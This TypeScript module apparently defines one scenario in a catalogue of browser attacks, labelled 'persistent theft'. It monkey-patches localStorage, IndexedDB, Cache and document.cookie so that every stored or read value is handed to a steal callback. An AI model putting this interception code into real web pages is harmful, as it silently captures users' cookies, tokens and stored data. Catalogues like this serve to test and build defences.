import { attack } from "../attack.js";

export default attack({
  name: "hooks the storage APIs",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    for (const method of ["getItem", "setItem"] as const) {
      const original = Storage.prototype[method] as (...args: string[]) => unknown;
      Storage.prototype[method] = function (this: Storage, ...args: string[]) {
        const result = original.apply(this, args);
        it.steal(...args, result);
        return result;
      } as never;
    }
    for (const method of ["put", "add"] as const) {
      const original = IDBObjectStore.prototype[method];
      IDBObjectStore.prototype[method] = function (value, ...key) {
        it.steal(value);
        return original.call(this, value, ...key);
      };
    }
    const { put } = Cache.prototype;
    Cache.prototype.put = function (request, response) {
      void response
        .clone()
        .text()
        .then((text) => it.steal(text));
      return put.call(this, request, response);
    };
    const cookie = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
    if (!cookie?.get || !cookie.set) return;
    const { get, set } = cookie;
    Object.defineProperty(Document.prototype, "cookie", {
      ...cookie,
      get() {
        const value: string = get.call(this);
        it.steal(value);
        return value;
      },
      set(value: string) {
        it.steal(value);
        set.call(this, value);
      },
    });
  },
});
